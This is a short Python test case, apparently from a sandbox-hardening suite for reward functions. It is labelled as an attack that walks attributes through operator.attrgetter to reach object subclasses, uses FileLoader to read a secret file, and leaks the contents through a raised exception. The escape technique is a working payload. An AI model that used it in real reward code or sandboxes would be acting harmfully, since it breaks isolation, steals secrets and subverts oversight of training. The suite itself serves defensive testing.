# attack: operator.attrgetter walks attributes
# group: traversal
# wall: language; alone: seccomp (no open)

def compute_reward(x):
    import operator
    for kind in operator.attrgetter("__class__.__base__.__subclasses__")(())():
        if kind.__name__ == "FileLoader":
            raise ValueError(kind("x", "@SECRET@").get_data("@SECRET@"))
    return x, {}
